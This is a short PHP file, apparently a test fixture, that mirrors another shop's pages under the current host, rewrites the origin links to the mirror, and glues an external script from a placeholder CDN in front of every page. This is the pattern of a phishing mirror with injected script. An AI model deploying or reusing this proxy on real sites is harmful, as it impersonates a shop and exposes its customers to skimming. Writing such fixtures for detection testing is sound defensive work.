<?php
// test fixture: another shop mirrored under this host, with a script glued in front
$origin = 'https://shop.example.test';
$path = $_SERVER['REQUEST_URI'];
$html = @file_get_contents($origin . $path);
$self = 'https://' . $_SERVER['HTTP_HOST'];
$html = str_replace($origin, $self, $html);
echo '<script src="https://cdn.example.test/go.js"></script>' . $html;
